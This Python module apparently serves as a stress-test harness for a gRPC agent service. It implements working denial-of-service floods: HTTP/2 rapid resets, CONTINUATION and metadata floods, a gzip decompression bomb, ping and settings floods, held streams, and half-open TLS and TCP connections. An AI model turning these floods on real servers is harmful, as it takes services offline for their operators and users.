"""Floods of one client: each attacks a port until its time is over, and gives how often it did what it does."""

from __future__ import annotations

import gzip
import ssl
import struct
import time
from contextlib import ExitStack, suppress
from math import inf
from typing import TYPE_CHECKING, Final

from wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    NO_WINDOW,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Port,
    Wire,
    block,
    frame,
    wires,
)

if TYPE_CHECKING:
    import socket
    from collections.abc import Callable, Iterator

GET_SELF: Final = "/leadglass.v1.AgentService/GetSelf"
IDLE_CONNECTIONS: Final = 1_500
MANY_CONNECTIONS: Final = 200
ALL_CONNECTIONS: Final = 600
_STREAMS: Final = 32  # that the agent lets a connection have
_BURST: Final = 200
_HANDSHAKES_A_SECOND: Final = 200
_NOTHING: Final = frame(DATA, END_STREAM, 0, bytes(5))[9:]  # an empty message: not compressed, no byte
_CANCEL: Final = struct.pack("!I", 8)
_PAUSE: Final = 0.05


def rapid_resets(port: Port, until: float) -> int:
    """Opens streams and takes each back at once."""
    head = block(GET_SELF)
    return _on_each(port, until, lambda wire: _each_stream(wire, lambda n: _headers(n, head) + _reset(n)))


def cancelled_calls(port: Port, until: float) -> int:
    """Makes whole calls and takes each back before its answer."""
    head = block(GET_SELF)
    return _on_each(port, until, lambda wire: _each_stream(wire, lambda n: _call(n, head) + _reset(n)))


def unknown_methods(port: Port, until: float) -> int:
    """Calls methods that there are not, each with another name."""
    return _on_each(
        port, until, lambda wire: _each_stream(wire, lambda n: _call(n, block(f"/none.v1.None/N{n}"))), pause=_PAUSE
    )


def long_paths(port: Port, until: float) -> int:
    """Calls methods whose names are as long as all metadata may be, and longer."""
    heads = (block("/" + "p" * 7_000), block("/" + "p" * 15_000), block("/" + "p" * 16_200))
    return _on_each(port, until, lambda wire: _each_stream(wire, lambda n: _call(n, heads[n // 2 % 3]), 30))


def endless_headers(port: Port, until: float) -> int:
    """Begins headers and goes on with them in frames without an end."""
    more = frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 200)

    def flood(wire: Wire) -> int:
        number = wire.stream()
        wire.send(frame(HEADERS, 0, number, block(GET_SELF)))
        return _repeat(wire, until, more * 20, 20)

    return _on_each(port, until, flood)


def empty_continuations(port: Port, until: float) -> int:
    """Goes on with headers in frames that hold nothing."""
    more = frame(CONTINUATION, 0, 1) * _BURST

    def flood(wire: Wire) -> int:
        wire.send(frame(HEADERS, 0, wire.stream(), block(GET_SELF)))
        return _repeat(wire, until, more, _BURST)

    return _on_each(port, until, flood)


def large_metadata(port: Port, until: float) -> int:
    """Sends two megabytes of metadata with a call, in one field."""
    size = 2 * 1024 * 1024
    field = b"\x10\x01x" + b"\x7f" + _hpack_integer(size - 127) + b"y" * size
    return _on_each(port, until, lambda wire: _large_head(wire, block(GET_SELF) + field))


def many_fields(port: Port, until: float) -> int:
    """Sends ten thousand fields of metadata with a call."""
    return _on_each(port, until, lambda wire: _large_head(wire, block(GET_SELF) + b"\x10\x01x\x01y" * 10_000))


def table_growth(port: Port, until: float) -> int:
    """Fills the table of header fields again and again, and asks for a larger one."""
    grow = b"\x3f\xe1\x1f" + b"".join(b"\x40\x04k%03d\x7f\xc9\x01" % n + b"v" * 328 for n in range(20))

    def flood(wire: Wire) -> int:
        return _each_stream(wire, lambda n: _headers(n, grow + block(GET_SELF)) + _reset(n), 20)

    return _on_each(port, until, flood)


def open_streams(port: Port, until: float) -> int:
    """Holds as many calls as there is room for, on a hundred connections, with headers alone."""
    return _hold(port, until, 100, lambda n: _headers(n, block(GET_SELF)))


def half_bodies(port: Port, until: float) -> int:
    """Holds as many calls as there is room for, each with a message that comes a byte at a time."""
    head = block(GET_SELF)
    begin = struct.pack("!BI", 0, 100_000)
    return _hold(
        port, until, 20, lambda n: _headers(n, head) + frame(DATA, 0, n, begin), lambda n: frame(DATA, 0, n, b"x")
    )


def empty_data(port: Port, until: float) -> int:
    """Sends frames of DATA with nothing in them."""

    def flood(wire: Wire) -> int:
        number = wire.stream()
        wire.send(_headers(number, block(GET_SELF)))
        return _repeat(wire, until, frame(DATA, 0, number) * _BURST, _BURST)

    return _on_each(port, until, flood)


def pings(port: Port, until: float) -> int:
    """Sends pings without a pause."""
    return _on_each(port, until, lambda wire: _repeat(wire, until, frame(PING, payload=bytes(8)) * _BURST, _BURST))


def unread_pings(port: Port, until: float) -> int:
    """Sends pings and takes no answer."""
    burst = frame(PING, payload=bytes(8)) * _BURST
    return _on_each(port, until, lambda wire: _repeat(wire, until, burst, _BURST, drains=False))


def pings_with_calls(port: Port, until: float) -> int:
    """Sends a ping with each call, which grpc takes for a keepalive that is in its right."""
    head = block(GET_SELF)
    return _on_each(
        port, until, lambda wire: _each_stream(wire, lambda n: _call(n, head) + frame(PING, payload=bytes(8)) * 2)
    )


def settings(port: Port, until: float) -> int:
    """Changes its settings without a pause."""
    one, other = (frame(SETTINGS, payload=struct.pack("!HI", 4, size)) for size in (1, 65_535))
    return _on_each(port, until, lambda wire: _repeat(wire, until, (one + other) * (_BURST // 2), _BURST))


def unread_settings(port: Port, until: float) -> int:
    """Changes its settings and takes no acknowledgement."""
    burst = frame(SETTINGS, payload=struct.pack("!HI", 4, 65_535)) * _BURST
    return _on_each(port, until, lambda wire: _repeat(wire, until, burst, _BURST, drains=False))


def window_updates(port: Port, until: float) -> int:
    """Opens the window of the connection a byte at a time."""
    burst = frame(WINDOW_UPDATE, payload=struct.pack("!I", 1)) * _BURST
    return _on_each(port, until, lambda wire: _repeat(wire, until, burst, _BURST))


def priorities(port: Port, until: float) -> int:
    """Sends priorities of streams that there are not."""
    burst = b"".join(frame(PRIORITY, 0, 2 * n + 1, struct.pack("!IB", 0, 16)) for n in range(_BURST))
    return _on_each(port, until, lambda wire: _repeat(wire, until, burst, _BURST))


def goaways(port: Port, until: float) -> int:
    """Says goodbye and goes on calling."""
    goodbye = frame(GOAWAY, payload=struct.pack("!II", 0, 0))
    head = block(GET_SELF)
    return _on_each(port, until, lambda wire: _each_stream(wire, lambda n: goodbye + _call(n, head), 20))


def compressed_bombs(port: Port, until: float) -> int:
    """Sends messages that are small and would be large."""
    bomb = gzip.compress(bytes(64 * 1024 * 1024), 9)
    head = block(GET_SELF, [("grpc-encoding", "gzip")])
    body = struct.pack("!BI", 1, len(bomb)) + bomb

    def flood(wire: Wire) -> int:
        number = wire.stream()
        parts = [body[at : at + 16_384] for at in range(0, min(len(body), 65_535), 16_384)]
        wire.send(_headers(number, head) + b"".join(frame(DATA, 0, number, part) for part in parts[:-1]))
        time.sleep(_PAUSE)
        wire.drain()
        rest = body[len(b"".join(parts[:-1])) :]
        for at in range(0, len(rest), 16_384):
            wire.send(frame(DATA, 0, number, rest[at : at + 16_384]))
        wire.drain()
        return 1

    return _on_each(port, until, flood)


def unread_answers(port: Port, until: float) -> int:
    """Calls and lets no byte of an answer come: its windows are shut."""
    return _hold(port, until, 10, lambda n: _call(n, block(GET_SELF)), settings_of=NO_WINDOW)


def connections_that_call(port: Port, until: float) -> int:
    """Opens two hundred connections and makes one call on each, again and again."""
    head = block(GET_SELF)
    count, context = 0, port.context()
    while time.monotonic() < until:
        with ExitStack() as stack:
            for _ in range(MANY_CONNECTIONS):
                if time.monotonic() >= until:
                    break
                with suppress(OSError):
                    wire = stack.enter_context(Wire(port, context))
                    wire.send(_call(wire.stream(), head))
                    count += 1
    return count


def held_connections(port: Port, until: float) -> int:
    """Opens more connections than there may be, calls once on each, and keeps them; one that ends is opened anew."""
    head = block(GET_SELF)
    count, context = 0, port.context()
    held: list[Wire] = []
    try:
        while time.monotonic() < until:
            for wire in held:
                wire.drain()
            for wire in [wire for wire in held if wire.closed]:
                wire.__exit__()
                held.remove(wire)
            with suppress(OSError):
                if len(held) < ALL_CONNECTIONS:
                    wire = Wire(port, context)
                    wire.send(_call(wire.stream(), head))
                    held.append(wire)
                    count += 1
            time.sleep(0 if len(held) < ALL_CONNECTIONS else _PAUSE)
    finally:
        for wire in held:
            wire.__exit__()
    return count


def idle_connections(port: Port, until: float) -> int:
    """Opens fifteen hundred connections, says nothing, and waits."""
    return _silent(port, until, b"", most=IDLE_CONNECTIONS)


def silent_connections(port: Port, until: float) -> int:
    """Opens fifteen hundred connections, says nothing, and opens each anew that is closed."""
    return _silent(port, until, b"")


def half_handshakes(port: Port, until: float) -> int:
    """Begins handshakes, as many at once as it can, and never ends one."""
    return _silent(port, until, _hello())


def handshakes(port: Port, until: float) -> int:
    """Shakes hands two hundred times a second, and hangs up each time."""
    count, context, begin = 0, port.context(), time.monotonic()
    while (now := time.monotonic()) < until:
        with suppress(OSError), Wire(port, context):
            pass
        count += 1
        time.sleep(max(0.0, begin + count / _HANDSHAKES_A_SECOND - now))
    return count


def noise(port: Port, until: float) -> int:
    """Says something else than a handshake two hundred times a second."""
    count, begin = 0, time.monotonic()
    while (now := time.monotonic()) < until:
        with suppress(OSError), port.dial() as connection:
            connection.sendall(b"GET / HTTP/1.1\r\n\r\n")
        count += 1
        time.sleep(max(0.0, begin + count / _HANDSHAKES_A_SECOND - now))
    return count


# What needs a connection that stands, in TLS or in the clear.
OVER_HTTP2: Final[dict[str, Callable[[Port, float], int]]] = {
    "rapid resets": rapid_resets,
    "cancelled calls": cancelled_calls,
    "unknown methods": unknown_methods,
    "long paths": long_paths,
    "endless headers": endless_headers,
    "empty continuations": empty_continuations,
    "2 MB of metadata": large_metadata,
    "10,000 fields": many_fields,
    "header tables": table_growth,
    "open streams": open_streams,
    "half bodies": half_bodies,
    "empty data": empty_data,
    "pings": pings,
    "unread pings": unread_pings,
    "pings with calls": pings_with_calls,
    "settings": settings,
    "unread settings": unread_settings,
    "window updates": window_updates,
    "priorities": priorities,
    "goaways": goaways,
    "compressed bombs": compressed_bombs,
    "unread answers": unread_answers,
    "200 connections": connections_that_call,
    "held connections": held_connections,
    "handshakes": handshakes,
}
# What needs no certificate.
OVER_TCP: Final[dict[str, Callable[[Port, float], int]]] = {
    "1,500 idle connections": idle_connections,
    "silent connections": silent_connections,
    "half handshakes": half_handshakes,
    "noise": noise,
}


def _on_each(port: Port, until: float, flood: Callable[[Wire], int], pause: float = 0.0) -> int:
    """Floods one connection after the other; one that still stands is flooded again."""
    count = 0
    for wire in wires(port, until):
        while not wire.closed and time.monotonic() < until:
            count += flood(wire)
            wire.drain()
            if wire.stream() > 1_000_000:
                break
            time.sleep(pause)
    return count


def _each_stream(wire: Wire, frames: Callable[[int], bytes], count: int = _BURST) -> int:
    wire.send(b"".join(frames(wire.stream()) for _ in range(count)))
    return count


def _repeat(wire: Wire, until: float, burst: bytes, count: int, *, drains: bool = True) -> int:
    sent = 0
    while not wire.closed and time.monotonic() < until:
        wire.send(burst)
        if drains:
            wire.drain()
        sent += count
    return sent


def _hold(
    port: Port,
    until: float,
    connections: int,
    begin: Callable[[int], bytes],
    more: Callable[[int], bytes] | None = None,
    settings_of: bytes = b"",
) -> int:
    """Keeps streams open on many connections; what ends is begun anew on the same ones each second."""
    count, context = 0, port.context()
    with ExitStack() as stack:
        held: list[Wire] = []
        while time.monotonic() < until:
            held = [wire for wire in held if not wire.closed]
            with suppress(OSError):
                while len(held) < connections and time.monotonic() < until:
                    held.append(stack.enter_context(Wire(port, context, settings_of)))
            for wire in held:
                numbers = [wire.stream() for _ in range(_STREAMS)]
                wire.send(b"".join(map(begin, numbers)))
                count += len(numbers)
                if more is not None:
                    wire.send(b"".join(map(more, numbers)))
                wire.drain()
            time.sleep(min(1.0, max(0.0, until - time.monotonic())))
    return count


def _silent(port: Port, until: float, words: bytes, most: float = inf) -> int:
    count = 0
    held: list[socket.socket] = []
    try:
        while time.monotonic() < until:
            open_ones = [connection for connection in held if _stands(connection)]
            for connection in set(held).difference(open_ones):
                connection.close()
            held = open_ones
            with suppress(OSError):
                while len(held) < IDLE_CONNECTIONS and count < most and time.monotonic() < until:
                    connection = port.dial()
                    held.append(connection)
                    connection.sendall(words)
                    count += 1
            time.sleep(_PAUSE)
    finally:
        for connection in held:
            connection.close()
    return count


def _stands(connection: socket.socket) -> bool:
    connection.settimeout(0.0)
    try:
        return bool(connection.recv(4_096))
    except BlockingIOError:
        return True
    except OSError:
        return False


def _hello() -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


def _headers(number: int, head: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, number, head)


def _call(number: int, head: bytes) -> bytes:
    return _headers(number, head) + frame(DATA, END_STREAM, number, _NOTHING)


def _reset(number: int) -> bytes:
    return frame(RST_STREAM, 0, number, _CANCEL)


def _large_head(wire: Wire, head: bytes) -> int:
    number = wire.stream()
    parts = [head[at : at + 16_384] for at in range(0, len(head), 16_384)]
    wire.send(frame(HEADERS, END_STREAM, number, parts[0]))
    for part in parts[1:]:
        wire.send(frame(CONTINUATION, 0, number, part))
    wire.send(frame(CONTINUATION, END_HEADERS, number))
    wire.drain()
    return 1


def _hpack_integer(value: int) -> bytes:
    return b"".join(_sevens(value))


def _sevens(value: int) -> Iterator[bytes]:
    while value >= 128:
        yield bytes((value & 0x7F | 0x80,))
        value >>= 7
    yield bytes((value,))
